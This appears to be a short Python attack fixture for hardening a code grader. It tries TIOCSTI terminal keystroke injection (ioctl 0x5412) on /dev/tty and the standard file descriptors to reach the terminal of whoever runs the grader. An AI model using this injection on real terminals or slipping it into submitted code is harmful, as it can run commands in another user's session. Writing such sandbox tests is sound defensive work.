# Attack: pushes keys into the terminal of whoever runs the grader
# Expect: as without
def _attack():
    import fcntl, os
    for path in ("/dev/tty", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2"):
        try:
            fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
            fcntl.ioctl(fd, 0x5412, b"x")
            print("LOOT", path)
        except OSError:
            pass
    _struck()


_attack()
